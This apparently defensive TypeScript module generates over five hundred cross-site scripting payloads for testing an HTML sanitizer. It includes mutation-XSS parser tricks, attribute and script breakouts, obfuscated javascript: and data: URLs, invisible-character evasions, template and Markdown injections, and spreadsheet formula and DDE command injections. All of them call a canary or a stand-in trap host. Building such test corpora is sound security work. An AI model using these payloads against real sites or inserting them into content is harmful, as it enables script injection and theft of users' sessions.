/** Host that nothing of ours ever asks: whoever does was made to. */
export const TRAP = 'trap.example'
/** What a vector calls when it runs. */
export const CANARY = '__xss'

export interface Vector {
  html: string
  /** It is a piece of HTML by itself, so that others may stand beside it without being swallowed. */
  closed: boolean
}

/** Each gets its index, so that a script that runs can be identified. */
type Writer = (run: string, trap: string) => string

const EVENTS = [
  ...['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'onanimationstart'],
  ...['ontoggle', 'onbegin', 'onwheel', 'oncopy', 'onbeforematch', 'ONLOAD', 'onscrollend'],
]
const BEARERS = [
  ...['p', 'div', 'span', 'a', 'b', 'li', 'td', 'h2', 'img src=x', 'svg', 'math', 'body', 'video src=x'],
  ...[
    'audio src=x',
    'input autofocus',
    'select autofocus',
    'details open',
    'marquee',
    'iframe',
    'object data=x',
  ],
]

const handlers = (): Writer[] =>
  BEARERS.flatMap((tag, place) =>
    // Every element with half of the events, so that all of them are met.
    EVENTS.filter((_, at) => (at + place) % 2 === 0).map(
      (event): Writer =>
        (run) =>
          `<${tag} ${event}=${run}>x</${tag.split(' ')[0] ?? ''}>`,
    ),
  )

const SCHEMES: Writer[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java\nscript:${run}`,
  (run) => `  javascript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `&#106;&#97;vascript:${run}`,
  (run) => `&#x6a;avascript&colon;${run}`,
  (run) => `java&Tab;script&#58;${run}`,
  (run) => `&#0000106avascript:${run}`,
  (run) => `javascript:void(0)?0:${run}`,
  (run) => `javascript://%0a${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>top.${run}</script>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>top.${run}</script>`).toString('base64')}`,
  (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.${run}'/>`,
]
const ADDRESSES: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<area href="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<embed src="${address}">`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button formaction="${address}">x</button>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<svg><animate attributeName=href values="${address}" /></svg>`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (address) => `<video poster="${address}"></video>`,
]

const addresses = (): Writer[] =>
  ADDRESSES.flatMap((place) =>
    SCHEMES.map(
      (scheme): Writer =>
        (run, trap) =>
          place(scheme(run, trap)),
    ),
  )

/** Elements that load, restyle or lead elsewhere. */
const loaders: Writer[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<SCRIPT>${run}</SCRIPT >`,
  (run) => `<script type=module>${run}</script>`,
  (_run, trap) => `<script src=${trap}></script>`,
  (_run, trap) => `<script/src="data:text/javascript,fetch('${trap}')"></script>`,
  (_run, trap) => `<link rel=stylesheet href=${trap}>`,
  (_run, trap) => `<link rel=import href=${trap}>`,
  (_run, trap) => `<link rel=prefetch href=${trap}>`,
  (_run, trap) => `<style>@import '${trap}';</style>`,
  (_run, trap) => `<style>*{background:url(${trap})}</style>`,
  (_run, trap) => `<p style="background:url(${trap})">x</p>`,
  (_run, trap) => `<p style="background:url('${trap}&#39;)">x</p>`,
  (run) => `<p style="width:expression(${run})">x</p>`,
  (run) => `<p style="-moz-binding:url(javascript:${run})">x</p>`,
  (_run, trap) => `<p style="list-style:url(&quot;${trap}&quot;)">x</p>`,
  (_run, trap) => `<table background="${trap}"><tr><td background="${trap}">x</td></tr></table>`,
  (_run, trap) => `<iframe src="${trap}"></iframe>`,
  (run) => `<iframe srcdoc="<script>top.${run}</script>"></iframe>`,
  (run) => `<iframe srcdoc="&lt;img src=x onerror=top.${run}&gt;"></iframe>`,
  (_run, trap) => `<object data="${trap}"></object><embed src="${trap}">`,
  (_run, trap) => `<base href="${trap}/">`,
  (_run, trap) => `<meta http-equiv=refresh content="0;url=${trap}">`,
  (_run, trap) => `<svg><use href="${trap}#x" /></svg>`,
  (_run, trap) => `<svg><image href="${trap}" /></svg>`,
  (_run, trap) => `<svg><feImage href="${trap}" /></svg>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><set attributeName=onmouseover to=${run} /></svg>`,
  (run) => `<svg><foreignObject><iframe srcdoc="<script>top.${run}</script>"></iframe></foreignObject></svg>`,
  (run) => `<video><source onerror=${run}></video>`,
  (_run, trap) => `<form action="${trap}"><input autofocus name=x><input type=image src=${trap}></form>`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  (run) => `<custom-element onfocus=${run} tabindex=0 autofocus>x</custom-element>`,
  (run) => `<a href="#" onclick="${run}" autofocus tabindex=1 onfocus="${run}">x</a>`,
  (_run, trap) => `<portal src="${trap}"></portal><frameset><frame src="${trap}"></frameset>`,
  (_run, trap) => `<img srcset="x 1x" lowsrc="${trap}" dynsrc="${trap}" onerror="fetch('${trap}')">`,
]

/** What one parser takes for text and the next for an element. */
const mutations: Writer[] = [
  (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<noembed><img title="</noembed><img src=x onerror=${run}>">`,
  (run) => `<noframes><img title="</noframes><img src=x onerror=${run}>">`,
  (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  (run) => `<textarea><img title="</textarea><img src=x onerror=${run}>">`,
  (run) => `<title><a href="</title><img src=x onerror=${run}>">`,
  (run) => `<iframe><img title="</iframe><img src=x onerror=${run}>">`,
  (run) => `<plaintext><img src=x onerror=${run}>`,
  (run) => `<style><img title="</style><img src=x onerror=${run}>">`,
  (run) => `<script><!--<script></script><img title="--><img src=x onerror=${run}>">`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<!---><img src=x onerror=${run}>`,
  (run) => `<!-- --!><img src=x onerror=${run}>`,
  (run) => `<![CDATA[<img src=x onerror=${run}>]]>`,
  (run) => `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  (run) => `<?xml <img src=x onerror=${run}>?>`,
  (run) => `<?img src=x onerror=${run}>`,
  (run) => `</br><img src=x onerror=${run}>`,
  (run) => `</p id=x><img src=x onerror=${run}>`,
  (run) => `<svg><p><style><!--</style><img src=x onerror=${run}>-->`,
  (run) => `<svg><title><style><img src=x onerror=${run}></style></title></svg>`,
  (run) => `<svg><desc><noscript><img src=x onerror=${run}></noscript></desc></svg>`,
  (run) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml>`,
  (run) => `<math><mi><style><img src=x onerror=${run}></style></mi></math>`,
  (run) => `<select><style></select><img src=x onerror=${run}></style>`,
  (run) => `<select><template><style></select><img src=x onerror=${run}></template>`,
  (run) => `<table><caption><svg><style></table><img src=x onerror=${run}></style>`,
  (run) => `<table><td><svg><desc></table><img src=x onerror=${run}>`,
  (run) => `<option><style></option></select><img src=x onerror=${run}></style>`,
  (run) => `<a href="x"><svg><a href="y"><style></a><img src=x onerror=${run}></style>`,
  (run) => `<dialog open><form method=dialog><button autofocus onfocus=${run}>x</dialog>`,
  (run) => `<b><style><style/><img src=x onerror=${run}>`,
  (run) => `<svg><style>&lt;img src=x onerror=${run}&gt;</style></svg>`,
  (run) => `<svg><style>&lt;/style>&lt;img src=x onerror=${run}></style></svg>`,
  (run) => `<p>&lt;img src=x onerror=${run}&gt;</p>`,
  (run) => `<p>&amp;lt;img src=x onerror=${run}&amp;gt;</p>`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `${'<div>'.repeat(300)}<img src=x onerror=${run}>${'</div>'.repeat(300)}`,
  (run) => `${'<svg>'.repeat(60)}<style><img src=x onerror=${run}>`,
]

/** Out of an attribute, a script, an attribute's quotation marks; and what sloppy parsers make a tag of. */
const breakouts: Writer[] = [
  ...['"', "'", '`', '">', "'>", '"/>', '\\">', '">>', '"\n', '&quot;>', '&#34;>'].flatMap(
    (quote): Writer[] => [
      (run) => `${quote}<img src=x onerror=${run}>`,
      (run) => `${quote} onmouseover=${run} autofocus onfocus=${run} x=`,
      (run) => `${quote}</script><script>${run}</script>`,
    ],
  ),
  ...[
    '</title>',
    '</textarea>',
    '</style>',
    '</noscript>',
    '</template>',
    '</svg>',
    '</select>',
    '-->',
    ']]>',
  ].map(
    (end): Writer =>
      (run) =>
        `${end}<img src=x onerror=${run}>`,
  ),
  (run) => `</script><script>${run}</script>`,
  (run) => `</SCRIPT\n><svg onload=${run}>`,
  (run) => `</script x><svg onload=${run}>`,
  (run) => `<!--<script>${run}//--></script>`,
  (run) => `{"@type":"Product"}</script><script>${run}</script>`,
  (run) => `\\u003c/script\\u003e\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `\\x3cimg src=x onerror=${run}\\x3e`,
  (run) => `';${run};//`,
  (run) => `";${run};//`,
  (run) => `\\';${run};//`,
  (run) => `\u2028${run}\u2029`,
  (run) => `*/${run}/*`,
  (run) => `\`-${run}-\``,
  (run) => `<img/src=x/onerror=${run}>`,
  (run) => `<img\tsrc=x\tonerror\t=\t${run}>`,
  (run) => `<img\fsrc=x\fonerror=${run}>`,
  (run) => `<img src=x onerror\r\n=${run}>`,
  (run) => `<img src="x" "onerror=${run}>`,
  (run) => `<img src=x"" onerror=${run}//`,
  (run) => `<img src=x:x onerror=${run} `,
  (run) => `<img """><script>${run}</script>">`,
  (run) => `<svg/onload=${run}//`,
  (run) => `<<script>${run}//<</script>`,
  (run) => `<script${run}>`,
  (run) => `<IMG SRC=x OnErRoR=${run}>`,
  (run) => `<img src=x onerror="&#95;${run.slice(1)}">`,
  (run) => `<a/href="j&#x61vascript:${run}">x`,
  (run) => `<a href=" &#14; javascript:${run}">x`,
]

/** Characters that readers do not see, or take for others. */
const characters: Writer[] = [
  '\u200b',
  '\u00ad',
  '\ufeff',
  '\u2060',
  '\u0300',
  '\u202e',
  '\ufff9',
  '\u00a0',
  '\u3000',
].flatMap((odd): Writer[] => [
  (run) => `<scr${odd}ipt>${run}</script>`,
  (run) => `<img${odd} src=x onerror=${run}>`,
  (run) => `<a href="java${odd}script:${run}">x</a>`,
])
const lookalikes: Writer[] = [
  (run) => `＜script＞${run}＜/script＞`,
  (run) => `‹img src=x onerror=${run}›`,
  (run) => `<ſcript>${run}</ſcript>`,
  (run) => `<ıframe onload=${run}>`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `\u00bcscript\u00be${run}\u00bc/script\u00be`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `%253Csvg%2520onload%253D${run}%253E`,
]

/** What templates, Markdown, spreadsheets and libraries would take for more than text. */
const foreign: Writer[] = [
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `{{${run}}}`,
  (run) => `\${${run}}`,
  (run) => `#{${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `<div v-html="'<img src=x onerror=${run}>'" ng-app ng-init="${run}">x</div>`,
  (run) => `<div data-toggle=tooltip data-html=true title="<img src=x onerror=${run}>">x</div>`,
  (run) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  (run) => `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
  (run) => `[x](javascript:${run})`,
  (run) => `[x](<javascript:${run}>)`,
  (run) => `![x](x"onerror="${run})`,
  (run) => `<javascript:${run}>`,
  (run) => `[x]: javascript:${run}`,
  (run) => `\`\`\`"><img src=x onerror=${run}>`,
  (_run, trap) => `=HYPERLINK("${trap}","x")`,
  (_run, trap) => `@SUM(1)*IMPORTDATA("${trap}")`,
  (_run, trap) => `+cmd|' /C start ${trap}'!A0`,
  (run) => `javascript:${run}`,
  (run) => `https://x.example/"onmouseover="${run}`,
  (run) => `https://x.example/'><img src=x onerror=${run}>`,
  (run) => `<span class=ql-formula data-value="\\href{javascript:${run}}{x}">x</span>`,
  (run) => `<iframe class=ql-video src="javascript:${run}"></iframe>`,
  (run) => `<a class="ql-indent-1" href="https://x.example" target="javascript:${run}">x</a>`,
]

const written = (writers: readonly Writer[], closed: boolean, from: number): Vector[] =>
  writers.map((write, at) => ({
    html: write(`${CANARY}(${String(from + at)})`, `http://${TRAP}/${String(from + at)}`),
    closed,
  }))

/** More than five hundred ways to make a page run a stranger's script. */
export function scriptVectors(): Vector[] {
  const closed = written([...handlers(), ...addresses(), ...loaders], true, 1)
  const open = [...mutations, ...breakouts, ...characters, ...lookalikes, ...foreign]
  return [...closed, ...written(open, false, closed.length + 1)]
}
